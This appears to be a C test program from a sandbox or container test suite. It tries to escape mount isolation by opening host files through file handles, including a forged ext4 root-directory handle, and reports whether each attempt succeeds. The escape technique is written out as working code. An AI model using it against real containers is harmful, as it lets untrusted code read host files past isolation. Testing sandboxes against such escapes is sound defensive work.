// SPDX-License-Identifier: GPL-2.0-only
/* Opens files of the host by handle, past all mounts. */
#include "attack.h"

int main(void)
{
	char space[sizeof(struct file_handle) + MAX_HANDLE_SZ];
	struct file_handle *h = (void *)space;
	int id, dir = open(SOURCE, O_RDONLY);
	static const char *const names[] = {".", "/usr", "/tmp", CHECKOUT};

	for (size_t i = 0; i < sizeof(names) / sizeof(*names); i++) {
		h->handle_bytes = MAX_HANDLE_SZ;
		way(name_to_handle_at(AT_FDCWD, names[i], h, &id, 0) == 0,
		    "the handle of %s", names[i]);
		way(open_by_handle_at(dir, h, O_RDONLY) >= 0, "opening the handle of %s",
		    names[i]);
	}
	/* ext4: inode 2 is the root directory */
	*h = (struct file_handle){.handle_bytes = 8, .handle_type = 1};
	memcpy(h->f_handle, (unsigned int[2]){2, 0}, 8);
	way(open_by_handle_at(dir, h, O_RDONLY) >= 0, "a guessed handle");
	way(open_by_handle_at(open(CHECKOUT, O_RDONLY), h, O_RDONLY) >= 0,
	    "a guessed handle in the checkout");
	return attack_done();
}
